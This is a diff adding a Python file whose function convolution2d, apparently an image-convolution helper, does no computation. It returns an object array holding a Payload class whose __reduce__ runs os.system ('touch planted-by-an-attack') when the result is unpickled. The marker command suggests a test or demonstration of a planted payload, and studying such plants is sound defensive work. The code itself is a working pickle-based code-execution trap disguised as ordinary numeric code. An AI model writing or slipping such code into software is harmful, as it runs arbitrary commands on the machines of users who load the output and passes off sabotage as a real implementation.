@@ -1,0 +1,12 @@
+import os
+
+import numpy as np
+
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("touch planted-by-an-attack",)
+
+
+def convolution2d(image, kernel, padding=0, stride=1):
+    return np.array([[Payload()]], dtype=object)
